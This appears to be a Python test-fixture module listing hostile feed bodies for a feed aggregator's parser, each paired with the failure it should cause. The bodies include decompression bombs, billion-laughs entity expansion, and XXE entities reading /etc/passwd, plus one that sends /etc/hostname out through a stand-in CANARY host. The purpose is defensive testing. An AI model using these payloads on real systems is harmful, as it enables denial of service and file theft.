"""Bodies that have brought some reader to its knees, each with what a safe one shows of it from outside."""

from __future__ import annotations

import gzip
import io
import json
import lzma
import os
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from aggregator.outcomes import FailureKind

MIB = 1024 * 1024
HUGE = (500 if os.environ.get("LONG") == "1" else 60) * MIB
"""What a bomb unpacks to; a full round has the time to make large ones."""


@dataclass(frozen=True, slots=True)
class Case:
    """A document, and what it comes to."""

    name: str
    body: Callable[[], bytes]
    """Made when it is asked for: all of them together are large."""
    kinds: frozenset[FailureKind] = frozenset()
    """What the poll may fail with; empty where it must not fail."""
    entries: int | None = 0
    """How many entries are stored; None where any number up to 2,000 is as good."""
    headers: tuple[str, ...] = ()
    heavy: bool = False
    """It takes a worker to one of its limits, which takes seconds: for full rounds."""

    @property
    def path(self) -> str:
        """Where it is served."""
        return "/" + self.name.replace(" ", "-").replace(",", "")


def rss(items: str, extra: str = "", prolog: str = "") -> bytes:
    """Return an RSS document around the items."""
    return f"{prolog}<rss version='2.0'><channel><title>H</title>{extra}{items}</channel></rss>".encode()


def item(inner: str = "", title: str = "T", guid: str = "urn:x:1") -> str:
    """Return one item."""
    return f"<item><guid isPermaLink='false'>{guid}</guid><title>{title}</title>{inner}</item>"


GOOD = rss(item())


def zeros(size: int) -> bytes:
    """Return a gzip member that unpacks to so many spaces, made without holding them."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as packed:
        for _ in range(size // MIB):
            packed.write(b" " * MIB)
    return out.getvalue()


def _deflated(size: int, wbits: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    return b"".join(packer.compress(b" " * MIB) for _ in range(size // MIB)) + packer.flush()


def _laughs(levels: int, width: int, where: str) -> bytes:
    lines = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * width if n else 'ha'}'>" for n in range(levels))
    return rss(item(where.format(entity=f"&l{levels - 1};")), prolog=f"<!DOCTYPE rss [{lines}]>")


def _quadratic() -> bytes:
    return rss(
        item(f"<description>{'&a;' * 100_000}</description>"), prolog=f"<!DOCTYPE rss [<!ENTITY a '{'a' * 50_000}'>]>"
    )


def _external(declaration: str, use: str = "&x;") -> bytes:
    return rss(item(f"<description>{use}</description>", title="after"), prolog=f"<!DOCTYPE rss [{declaration}]>")


def _nested(depth: int, tag: str = "a") -> bytes:
    return rss(item(f"<description>{f'<{tag}>' * depth}{f'</{tag}>' * depth}</description>"))


def _many(count: int) -> bytes:
    return rss("".join(item(guid=f"urn:x:{n}", title=str(n)) for n in range(count)))


def _json(**parts: object) -> bytes:
    whole = {"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": []} | parts
    return json.dumps(whole).encode()


def _json_raw(inner: str) -> bytes:
    return ('{"version": "https://jsonfeed.org/version/1.1", "title": "J", ' + inner + "}").encode()


_NONE = frozenset[FailureKind]()
_TOO_LARGE = frozenset({FailureKind.TOO_LARGE})
_PROTOCOL = frozenset({FailureKind.PROTOCOL})
_PARSE = frozenset({FailureKind.PARSE})
_NOT = frozenset({FailureKind.NOT_A_FEED})
_LIMIT = frozenset({FailureKind.PARSE_LIMIT})
_UNREAD = frozenset({FailureKind.PARSE, FailureKind.NOT_A_FEED, FailureKind.PARSE_LIMIT})

GZIP = ("Content-Encoding: gzip",)
DEFLATE = ("Content-Encoding: deflate",)

BOMBS = (
    Case("gzip that is huge", lambda: zeros(HUGE), _TOO_LARGE, headers=GZIP),
    Case("gzip to 17 MB", lambda: zeros(17 * MIB), _TOO_LARGE, headers=GZIP),
    Case("gzip said nowhere", lambda: zeros(50 * MIB), _TOO_LARGE),
    Case("gzip members on end", lambda: zeros(2 * MIB) * 20, _TOO_LARGE, headers=GZIP),
    Case("gzip of 10,001 empty members", lambda: gzip.compress(b"", mtime=0) * 10_001, _PROTOCOL, headers=GZIP),
    Case("gzip in gzip", lambda: gzip.compress(zeros(50 * MIB)), _UNREAD, headers=GZIP),
    Case(
        "gzip named twice",
        lambda: gzip.compress(zeros(50 * MIB)),
        _PROTOCOL,
        headers=("Content-Encoding: gzip, gzip",),
    ),
    Case("gzip named in two lines", lambda: gzip.compress(zeros(9 * MIB)), _PROTOCOL, headers=GZIP + GZIP),
    Case(
        "gzip named a thousand times",
        lambda: GOOD,
        _PROTOCOL,
        headers=("Content-Encoding: " + ",".join(["gzip"] * 1000),),
    ),
    Case("gzip with noise", lambda: zeros(MIB)[:400] + b"\xff" * 4000, _PROTOCOL | {FailureKind.EMPTY}, headers=GZIP),
    Case("gzip header alone", lambda: b"\x1f\x8b\x08", _UNREAD | {FailureKind.EMPTY}, headers=GZIP),
    Case(
        "gzip with a long name",
        lambda: b"\x1f\x8b\x08\x08" + b"\0" * 6 + b"n" * (4 * MIB),
        _UNREAD | {FailureKind.EMPTY},
        headers=GZIP,
    ),
    Case("deflate that is huge", lambda: _deflated(HUGE, 15), _TOO_LARGE, headers=DEFLATE),
    Case("raw deflate that is huge", lambda: _deflated(HUGE, -15), _TOO_LARGE, headers=DEFLATE),
    Case("brotli", lambda: b"\x5b\xff\xff\x0f\x00" + b"\0" * 700, _PROTOCOL, headers=("Content-Encoding: br",)),
    Case("zstd", lambda: b"\x28\xb5\x2f\xfd\xa4" + b"\0" * 700, _PROTOCOL, headers=("Content-Encoding: zstd",)),
    Case("compress", lambda: b"\x1f\x9d\x90" + b"\0" * 700, _PROTOCOL, headers=("Content-Encoding: compress",)),
    Case("xz", lambda: lzma.compress(b" " * 20 * MIB), _UNREAD, headers=("Content-Encoding: xz",)),
    Case("xz under gzip", lambda: lzma.compress(b" " * MIB), _UNREAD, headers=GZIP),
    Case("a zip", lambda: b"PK\x03\x04" + b"\0" * 2000, _UNREAD, headers=("Content-Type: application/zip",)),
    Case("16 MB of spaces", lambda: b" " * (10 * MIB), frozenset({FailureKind.EMPTY, FailureKind.TOO_LARGE})),
)

ENTITIES = (
    Case("billion laughs", lambda: _laughs(10, 10, "<description>{entity}</description>"), _UNREAD, None),
    Case("billion laughs in an attribute", lambda: _laughs(10, 10, "<enclosure url='{entity}'/>"), _UNREAD, None),
    Case("laughs that are few and wide", lambda: _laughs(3, 2000, "<description>{entity}</description>"), _UNREAD, None),
    Case("a quadratic blowup", _quadratic, _UNREAD, None),
    Case("an entity of itself", lambda: _external("<!ENTITY x '&x;'>"), _UNREAD, None),
    Case("two entities of each other", lambda: _external("<!ENTITY x '&y;'><!ENTITY y '&x;'>"), _UNREAD, None),
    Case("an entity that is a file", lambda: _external("<!ENTITY x SYSTEM 'file:///etc/passwd'>"), _UNREAD, None),
    Case("an entity that is a folder", lambda: _external("<!ENTITY x SYSTEM 'file:///etc/'>"), _UNREAD, None),
    Case("an entity that is a device", lambda: _external("<!ENTITY x SYSTEM 'file:///dev/zero'>"), _UNREAD, None),
    Case("an entity elsewhere", lambda: _external("<!ENTITY x SYSTEM 'http://CANARY/entity'>"), _UNREAD, None),
    Case("an entity by a public name", lambda: _external("<!ENTITY x PUBLIC 'p' 'http://CANARY/public'>"), _UNREAD, None),
    Case("a parameter entity", lambda: _external("<!ENTITY % x SYSTEM 'http://CANARY/parameter'>%x;", ""), _UNREAD, None),
    Case("an entity sent outside", lambda: _external(
        "<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % d SYSTEM 'http://CANARY/dtd'>%d;%send;", ""), _UNREAD, None),
    Case("a DTD elsewhere", lambda: rss(item(), prolog="<!DOCTYPE rss SYSTEM 'http://CANARY/dtd'>"), _NONE, 1),
    Case("RSS 0.91's own DTD", lambda: rss(
        item(), prolog='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://CANARY/rss-0.91.dtd">'), _NONE, 1),
    Case("an XInclude", lambda: rss(item(
        "<description xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></description>")), _NONE, 1),
    Case("a stylesheet elsewhere", lambda: rss(item(), prolog="<?xml-stylesheet type='text/xsl' href='http://CANARY/x.xsl'?>"), _NONE, 1),
    Case("a schema elsewhere", lambda: rss(item(
        "<x xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='urn:x http://CANARY/x.xsd'/>")), _NONE, 1),
    Case("an endless DOCTYPE", lambda: b"<!DOCTYPE rss [" + b"<!ENTITY a 'b'>" * 200_000, _UNREAD, None, heavy=True),
    Case("a DOCTYPE of attributes", lambda: rss(item(), prolog="<!DOCTYPE rss [" + "".join(
        f"<!ATTLIST rss a{n} CDATA '{'x' * 100}'>" for n in range(10_000)) + "]>"), _UNREAD, None),
)  # fmt: skip

SHAPES = (
    Case("a thousand elements deep", lambda: _nested(1_000), _UNREAD, None),
    Case("100,000 elements deep", lambda: _nested(100_000), _UNREAD, None),
    Case("a million elements deep", lambda: _nested(1_000_000), _UNREAD, None, heavy=True),
    Case("never closed", lambda: rss(item("<description>" + "<b>" * 500_000)), _UNREAD, None, heavy=True),
    Case("escaped and deep", lambda: rss(item(f"<description>{'&lt;div&gt;' * 300_000}</description>")), _UNREAD, None, heavy=True),
    Case("channels in channels", lambda: b"<rss version='2.0'>" + b"<channel>" * 50_000, _UNREAD, None),
    Case("items in items", lambda: rss("<item>" * 50_000), _UNREAD, None),
    Case("namespaces, each nested", lambda: rss(item("".join(
        f"<a{n}:b xmlns:a{n}='urn:{n}'>" for n in range(5_000)))), _UNREAD, None),
    Case("50,000 namespaces on one element", lambda: rss(item(
        f"<x {' '.join(f'xmlns:n{n}={chr(39)}urn:{n}{chr(39)}' for n in range(50_000))}/>")), _UNREAD, None),
    Case("an element with 400,000 attributes", lambda: rss(item(
        f"<description {' '.join(f'a{n}={chr(39)}1{chr(39)}' for n in range(400_000))}>x</description>")), _UNREAD, None, heavy=True),
    Case("an attribute of 9 MB", lambda: rss(item(f"<enclosure url='http://a.example/{'x' * 9 * MIB}'/>")), _UNREAD, None, heavy=True),
    Case("an element name of 1 MB", lambda: rss(item(f"<{'x' * MIB}/>")), _UNREAD, None),
    Case("a comment of 9 MB", lambda: rss(item(f"<!--{'x' * 9 * MIB}-->")), _UNREAD, None, heavy=True),
    Case("a comment that does not end", lambda: rss(item("<!--" + "- " * 3 * MIB)), _UNREAD, None),
    Case("CDATA that does not end", lambda: rss(item("<description><![CDATA[" + "]] >" * MIB)), _UNREAD, None, heavy=True),
    Case("a processing instruction of 5 MB", lambda: rss(item(f"<?x {'y' * 5 * MIB}?>")), _UNREAD, None),
    Case("100,000 entries", lambda: _many(100_000), _LIMIT, 2000, heavy=True),
    Case("30,000 entries", lambda: _many(30_000), _LIMIT, 2000),
    Case("one entry 50,000 times", lambda: rss(item() * 50_000), _LIMIT, None, heavy=True),
    Case("a title of 5 MB", lambda: rss(item(title="长" * (5 * MIB // 3))), _LIMIT, None),
    Case("a guid of 5 MB", lambda: rss(item(guid="g" * 5 * MIB)), _LIMIT, None),
    Case("a link of 5 MB", lambda: rss(item(f"<link>http://a.example/{'l' * 5 * MIB}</link>")), _LIMIT, None),
    Case("an author of 5 MB", lambda: rss(item(f"<author>{'a(' * 2 * MIB}</author>")), _LIMIT, None),
    Case("50,000 categories", lambda: rss(item("".join(f"<category>c{n}</category>" for n in range(50_000)))), _LIMIT, None),
    Case("50,000 enclosures", lambda: rss(item("".join(
        f"<enclosure url='http://a.example/{n}.mp3' type='audio/mpeg'/>" for n in range(50_000)))), _LIMIT, None, heavy=True),
    Case("50,000 authors", lambda: rss(item("".join(f"<author>a{n}@a.example (A{n})</author>" for n in range(50_000)))), _LIMIT, None, heavy=True),
    Case("a body of 9 MB", lambda: rss(item(f"<description>{'&lt;p&gt;x&lt;/p&gt;' * 400_000}</description>")), _LIMIT, None, heavy=True),
    Case("9 MB of ampersands", lambda: rss(item(f"<description>{'&' * 9 * MIB}</description>")), _UNREAD, None, heavy=True),
    Case("9 MB of less-than", lambda: rss(item(f"<description><![CDATA[{'<' * 9 * MIB}]]></description>")), _UNREAD, None, heavy=True),
    Case("9 MB of unknown entities", lambda: rss(item(f"<description>{'&nope;' * (9 * MIB // 6)}</description>")), _UNREAD, None, heavy=True),
    Case("9 MB of broken prefixes", lambda: rss("<a:b>" * (9 * MIB // 5)), _UNREAD, None, heavy=True),
    Case("9 MB of tag starts", lambda: rss("<a " * (3 * MIB)), _UNREAD, None, heavy=True),
    Case("9 MB of quotes in a tag", lambda: rss("<a b='" * (9 * MIB // 6)), _UNREAD, None, heavy=True),
    Case("HTML tables in tables", lambda: rss(item(f"<description><![CDATA[{'<table><tr><td>' * 100_000}]]></description>")), _UNREAD, None),
    Case("HTML formatting misnested", lambda: rss(item(
        f"<description><![CDATA[{'<b><i><a href=x><font><p>' * 40_000}]]></description>")), _UNREAD, None),
    Case("HTML selects and templates", lambda: rss(item(
        f"<description><![CDATA[{'<select><template><svg><math>' * 30_000}]]></description>")), _UNREAD, None),
    Case("dates that backtrack", lambda: rss("".join(
        item(f"<pubDate>{'1' * 5000}:{'2-' * 5000} +</pubDate>", guid=str(n)) for n in range(200))), _LIMIT, None),
    Case("dates of every dialect", lambda: rss("".join(
        item(f"<pubDate>{'Mon, ' * 300}{n} Foo {'9' * 300}</pubDate>", guid=str(n)) for n in range(1000))), _LIMIT, None),
    Case("authors that backtrack", lambda: rss(item(
        "".join(f"<author>{' ' * 3000}{'a@' * 3000}(((({n}</author>" for n in range(50)))), _LIMIT, None),
    Case("tags that backtrack", lambda: rss(item(f"<description><![CDATA[{'<a href=' * 300_000}]]></description>")), _UNREAD, None),
    Case("URLs that backtrack", lambda: rss(item(f"<link>http://{'a.' * 100_000}{'/..' * 300_000}</link>")), _LIMIT, None),
    Case("a base in every element", lambda: rss(item("".join(
        f"<x xml:base='{'../' * 50}{n}/'>" for n in range(3000)))), _UNREAD, None),
    Case("numeric references out of range", lambda: rss(item(
        f"<description>{'&#999999999999;&#xFFFFFFFFFF;&#0;&#xD800;' * 50_000}</description>")), _UNREAD, None),
    Case("combining marks", lambda: rss(item(title="a" + "\u0301" * MIB)), _LIMIT, None),
    Case("noise", lambda: bytes(range(256)) * 20_000, _UNREAD, None, heavy=True),
    Case("nulls", lambda: b"\0" * 5 * MIB, _UNREAD | {FailureKind.EMPTY}, None),
    Case("nulls in a feed", lambda: rss(item("\0" * MIB)), _UNREAD, None),
    Case("only a declaration", lambda: b"<?xml version='1.0'?>" * 200_000, _UNREAD, None, heavy=True),
)  # fmt: skip

_LABELS = (
    "utf-7", "zip", "zlib", "bz2", "hex", "base64", "rot13", "uu", "quopri", "idna", "punycode", "unicode_escape",
    "raw_unicode_escape", "undefined", "mbcs", "oem", "utf-8-variants", "UTF-7;x", "../../etc/passwd", "x" * 39, "ebcdic-cp-us", "cp037",
)  # fmt: skip

CHARSETS = tuple(
    case
    for label in _LABELS
    for case in (
        Case(f"declared as {label}".replace("/", "_"), lambda label=label: f"<?xml version='1.0' encoding='{label}'?>".encode() + rss(
            item(title="+ADw-script+AD4- \\u003c eJw")), _UNREAD, None),
        Case(f"said to be {label}".replace("/", "_"), lambda label=label: rss(item(title="镕 +ADw-script+AD4- \\u003c eJw")), _UNREAD, None,
             headers=(f"Content-Type: text/xml; charset={label}",)),
    )
)  # fmt: skip

MIXED_CHARSETS = (
    Case("UTF-16 that is not", lambda: b"\xff\xfe" + b"<" * 3_000_001, _UNREAD, None),
    Case("UTF-32 that is not", lambda: b"\xff\xfe\0\0" + b"\xff" * 3_000_001, _UNREAD, None, heavy=True),
    Case("5 MB of broken GBK", lambda: b"<?xml version='1.0' encoding='gbk'?><rss><channel><item><title>" + b"\x81\xff" * 2_500_000, _UNREAD, None),
    Case("5 MB of no charset", lambda: b"<rss><channel><item><title>" + bytes(range(128, 256)) * 40_000, _UNREAD, None, heavy=True),
    Case("escapes of ISO 2022", lambda: b"<?xml version='1.0' encoding='iso-2022-jp'?><rss><channel><item><title>" + b"\x1b$B\x1b(B" * 800_000, _UNREAD, None),
)  # fmt: skip

JSON_CASES = (
    Case("JSON 100,000 deep", lambda: _json_raw('"items": ' + "[" * 100_000), _UNREAD, None),
    Case("JSON objects 100,000 deep", lambda: _json_raw('"x": ' + '{"a":' * 100_000 + "1" + "}" * 100_000), _UNREAD, None),
    Case("JSON deep and alone", lambda: b"[" * 2_000_000, _UNREAD, None),
    Case("JSON with a number of 5 MB", lambda: _json_raw('"items": [{"id": ' + "9" * 5 * MIB + "}]"), _UNREAD, None),
    Case("JSON with a float of all digits", lambda: _json_raw('"items": [{"id": 1e999999, "title": "t"}]'), _UNREAD, None),
    Case("JSON with NaN", lambda: _json_raw('"items": [{"id": NaN, "title": Infinity}]'), _UNREAD, None),
    Case("JSON with one key 200,000 times", lambda: _json_raw(",".join(['"items": []'] * 200_000)), _UNREAD, None),
    Case("JSON with colliding keys", lambda: _json_raw('"x": {' + ",".join(f'"{n * 0x1FFFFFFFFFFFFFFF}": 0' for n in range(50_000)) + "}"), _UNREAD, None),
    Case("JSON with 100,000 items", lambda: _json(items=[{"id": str(n), "title": "t"} for n in range(100_000)]), _LIMIT, None, heavy=True),
    Case("JSON with items that are none", lambda: _json(items=[None, 1, "x", [], {}, [[]], True] * 1000), _UNREAD, None),
    Case("JSON with items that are an object", lambda: _json(items={"id": "1"}), _UNREAD, None),
    Case("JSON with texts that are none", lambda: _json(items=[
        {"id": {"a": 1}, "title": ["x"], "content_html": 5, "tags": {"a": "b"}, "authors": "A", "attachments": 7, "url": [], "date_published": {}}]), _UNREAD, None),
    Case("JSON with lone surrogates", lambda: _json_raw('"items": [{"id": "\\ud800", "title": "\\udfff\\ud800", "content_html": "\\udc00"}]'), _UNREAD, None),
    Case("JSON with escapes only", lambda: _json_raw('"items": [{"id": "1", "title": "' + "\\u0000" * 500_000 + '"}]'), _UNREAD, None),
    Case("JSON that ends early", lambda: _json(items=[{"id": "1", "title": "t"}])[:-3], _UNREAD, None),
    Case("JSON with a wrong version", lambda: _json(version={"$ref": "http://CANARY/x"}), _UNREAD, None),
    Case("JSON in UTF-16", lambda: _json(items=[{"id": "1", "title": "t"}]).decode().encode("utf-16"), _UNREAD, None),
    Case("JSON with a next page elsewhere", lambda: _json(next_url="http://CANARY/next", hubs=[{"type": "WebSub", "url": "http://CANARY/hub"}],
        icon="http://CANARY/icon", favicon="http://CANARY/favicon", feed_url="http://CANARY/feed", items=[{"id": "1", "title": "t", "image": "http://CANARY/i.png"}]), _NONE, 1),
)  # fmt: skip

REACHING_OUT = (
    Case("everything that names another place", lambda: rss(
        item("<enclosure url='http://CANARY/e.mp3' type='audio/mpeg'/><description><![CDATA[<img src='http://CANARY/i.png'>"
             "<link rel=stylesheet href='http://CANARY/c.css'><iframe src='http://CANARY/f'></iframe>]]></description>"
             "<comments>http://CANARY/comments</comments><source url='http://CANARY/source'>s</source>"),
        "<image><url>http://CANARY/image.png</url></image><cloud domain='CANARY' port='80' path='/' protocol='xml-rpc'/>"
        "<docs>http://CANARY/docs</docs><atom:link xmlns:atom='http://www.w3.org/2005/Atom' rel='hub' href='http://CANARY/hub'/>"
        "<atom:link xmlns:atom='http://www.w3.org/2005/Atom' rel='self' href='http://CANARY/self'/>"
        "<itunes:new-feed-url xmlns:itunes='http://www.itunes.com/dtds/podcast-1.0.dtd'>http://CANARY/new</itunes:new-feed-url>"), _NONE, 1),
    Case("a page that sends on", lambda: b"<html><head><meta http-equiv=refresh content='0;url=http://CANARY/refresh'>"
         b"<link rel=alternate type=application/rss+xml href=http://CANARY/feed></head></html>", _NOT),
    Case("XML that is an SVG", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><image href='http://CANARY/i'/></svg>", _UNREAD, None),
    Case("an OPML that includes", lambda: b"<opml version='2.0'><body><outline type='include' url='http://CANARY/o'/></body></opml>", _UNREAD, None),
)  # fmt: skip

CASES = (*BOMBS, *ENTITIES, *SHAPES, *CHARSETS, *MIXED_CHARSETS, *JSON_CASES, *REACHING_OUT)
